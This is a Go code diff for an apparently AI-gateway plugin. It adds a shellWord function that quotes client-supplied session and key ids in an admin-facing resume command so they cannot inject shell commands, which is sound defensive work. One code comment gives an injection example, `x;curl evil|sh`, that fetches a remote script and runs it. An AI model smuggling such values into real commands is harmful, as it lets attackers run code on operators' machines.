@@ -3,7 +3,7 @@ package breaker
 import (
 	"context"
 	"fmt"
-
+	"strings"
 	"time"
 
 	"github.com/modelgate/modelgate/audit"
@@ -81,10 +81,10 @@ func chatLine(t Trip, what, key string) string {
 		if t.URL != "" {
 			line += t.URL + " or "
 		}
-		line += "`caddy modelgate resume " + webhook.CleanWhole(t.SessionID) + " --api-key-id " + webhook.CleanWhole(t.KeyID) + "`."
+		line += "`caddy modelgate resume " + webhook.CleanWhole(shellWord(t.SessionID)) + " --api-key-id " + webhook.CleanWhole(shellWord(t.KeyID)) + "`."
 	case ActionStop:
-		line += " Stopped until an admin clears it: `caddy modelgate resume " + webhook.CleanWhole(t.SessionID) +
-			" --api-key-id " + webhook.CleanWhole(t.KeyID) + "`."
+		line += " Stopped until an admin clears it: `caddy modelgate resume " + webhook.CleanWhole(shellWord(t.SessionID)) +
+			" --api-key-id " + webhook.CleanWhole(shellWord(t.KeyID)) + "`."
 	}
 	return line
 }
@@ -142,4 +142,22 @@ func (b *Breaker) Drain(ctx context.Context) {
 			return
 		}
 	}
+}
+
+// shellWord is s as one word of a POSIX shell command: as it is when it
+// holds only characters no shell reads specially, else single-quoted. A
+// session id is the client's text, and an admin pastes the resume command
+// into a shell: `x;curl evil|sh` must stay one argument.
+func shellWord(s string) string {
+	plain := s != ""
+	for _, r := range s {
+		if !(r >= 'a' && r <= 'z' || r >= 'A' && r <= 'Z' || r >= '0' && r <= '9' || strings.ContainsRune("._-:/+=@%,", r)) {
+			plain = false
+			break
+		}
+	}
+	if plain {
+		return s
+	}
+	return "'" + strings.ReplaceAll(s, "'", `'\''`) + "'"
 }
